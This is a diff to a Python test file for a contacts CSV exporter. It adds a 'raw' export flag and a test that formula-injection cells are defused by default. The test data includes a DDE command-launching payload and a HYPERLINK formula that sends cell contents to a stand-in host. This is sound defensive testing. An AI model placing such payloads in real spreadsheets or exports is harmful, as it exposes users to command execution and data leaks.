@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -114,14 +116,14 @@ def _saved(contacts: list[ContactData]) -> list[ContactData]:
 
 
 @SETTINGS
-@given(contacts=people(carriage_returns=True), spreadsheet=st.booleans())
+@given(contacts=people(carriage_returns=True), spreadsheet=st.booleans(), raw=st.booleans())
 def test_csv_export_then_import_gives_the_same_contacts(
-    store: SqliteDatabase, tmp_path: Path, contacts: list[ContactData], spreadsheet: bool
+    store: SqliteDatabase, tmp_path: Path, contacts: list[ContactData], spreadsheet: bool, raw: bool
 ) -> None:
     assume(contacts)
     before = _saved(contacts)
     target = tmp_path / "contacts.csv"
-    exports.export_csv(path=target, spreadsheet=spreadsheet)
+    exports.export_csv(path=target, spreadsheet=spreadsheet, raw=raw)
     assert sorted(_round_trip(target), key=repr) == sorted(before, key=repr)
 
 
@@ -148,9 +150,29 @@ def test_csv_for_spreadsheets_has_a_bom_and_defused_formulas(
     assert b"'=SUM(A1)" in data and b"'+44 20 7946 0000" in data
     assert data.endswith(b"\r\n")
     assert result.message == f"Exported 1 contact to {target}"
-    plain = tmp_path / "plain.csv"
-    exports.export_csv(path=plain, spreadsheet=False)
-    assert b"=SUM(A1)," in plain.read_bytes() and not plain.read_bytes().startswith(b"\xef")
+    raw = tmp_path / "raw.csv"
+    exports.export_csv(path=raw, raw=True)
+    assert b"=SUM(A1)," in raw.read_bytes() and not raw.read_bytes().startswith(b"\xef")
+
+
+FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"Click")', "@SUM(1)")
+
+
+def test_every_csv_export_defuses_formulas_by_default(
+    store: SqliteDatabase, tmp_path: Path
+) -> None:
+    """No option given: not one cell starts a formula, and the phone reads as it was."""
+    for first, last in zip(FORMULAS, ("-2+3", "\tTab", "\rReturn"), strict=True):
+        add_contact(contact=ContactData(first_name=first, last_name=last, phone="+1-555-0100"))
+    target = tmp_path / "contacts.csv"
+    exports.export_csv(path=target)
+    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [row[6] for row in rows[1:]] == ["'+1-555-0100"] * 3  # shown as +1-555-0100
+    again = sorted(_round_trip(target), key=repr)
+    assert sorted(c.phone for c in again) == ["+1-555-0100"] * 3  # re-imported unchanged
+    assert sorted(c.first_name for c in again) == sorted(FORMULAS)
 
 
 def test_only_the_selected_contacts_are_exported(store: SqliteDatabase, tmp_path: Path) -> None:
